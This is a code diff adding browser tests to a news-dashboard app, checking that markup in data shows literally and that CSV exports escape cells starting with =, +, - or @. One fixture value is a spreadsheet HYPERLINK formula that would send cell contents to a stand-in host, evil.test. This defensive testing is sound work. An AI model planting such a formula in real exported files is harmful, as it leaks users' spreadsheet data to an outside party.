@@ -389,3 +389,46 @@ def test_the_filters_follow_the_user_from_page_to_page(page, browser_pages):
     _wait_for_rerun(page)
     assert "/outlets" in page.url and "actor=Wang" in page.url, page.url
     assert "Wang Xiaohong" in page.get_by_test_id("stSidebar").get_by_test_id("stMultiSelect").first.inner_text()
+
+
+# --- text stays text (issue 11) ------------------------------------------------------------------
+
+HOSTILE_OUTLET = "**x** $y$ :red[z] :material/warning:"
+HOSTILE_TITLE = '=HYPERLINK("http://evil.test/leak?x="&A1,"Presiden Joko Widodo")'
+
+
+@pytest.fixture(scope="module")
+def hostile_server(tmp_path_factory):
+    _need_chromium()
+    from etl.load import load_paths
+
+    folder = tmp_path_factory.mktemp("hostile")
+    with open(folder / "hostile.csv", "w", newline="", encoding="utf-8") as fh:
+        w = csv.writer(fh)
+        w.writerow(["title", "content", "date", "source"])
+        w.writerow([HOSTILE_TITLE, "Presiden Joko Widodo meresmikan jembatan di Jakarta.", "2025-05-01", HOSTILE_OUTLET])
+        w.writerow(["+62 Presiden Joko Widodo ke Bandung", "Presiden Joko Widodo tiba di Bandung.", "2025-05-02", HOSTILE_OUTLET])
+        w.writerow(["@Jokowi di Surabaya", "Presiden Joko Widodo tiba di Surabaya.", "2025-05-03", HOSTILE_OUTLET])
+    db = folder / "hostile.duckdb"
+    load_paths([folder / "hostile.csv"], db=db, progress=False)
+    with _serve(db, tmp_path_factory.mktemp("log") / "hostile.log") as url:
+        yield url
+
+
+def test_text_from_the_data_shows_literally_and_csv_cells_never_start_a_formula(hostile_server, browser_pages, tmp_path):
+    from urllib.parse import quote_plus
+
+    page = browser_pages(f"{hostile_server}/?outlet={quote_plus(HOSTILE_OUTLET)}")
+    page.get_by_text("Showing items from").first.wait_for(timeout=30_000)
+    captions = [t.replace("\u2060", "") for t in page.get_by_test_id("stCaptionContainer").all_inner_texts()]
+    assert any(f"from {HOSTILE_OUTLET}." in t for t in captions), captions  # literally (the word joiner is invisible)
+    assert page.locator(".katex").count() == 0
+    assert page.locator("[data-testid='stCaptionContainer'] [data-testid='stIconMaterial']").count() == 0
+    assert page.get_by_text(HOSTILE_TITLE).count() == 1  # the article's title, as typed
+    name, rows = _download(page, "Download all 3 articles (CSV)", tmp_path)
+    raw = (tmp_path / name).read_text(encoding="utf-8")
+    for row in csv.reader(io.StringIO(raw)):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@")), cell
+    titles = {r["title"] for r in rows}
+    assert "'" + HOSTILE_TITLE in titles and "'+62 Presiden Joko Widodo ke Bandung" in titles
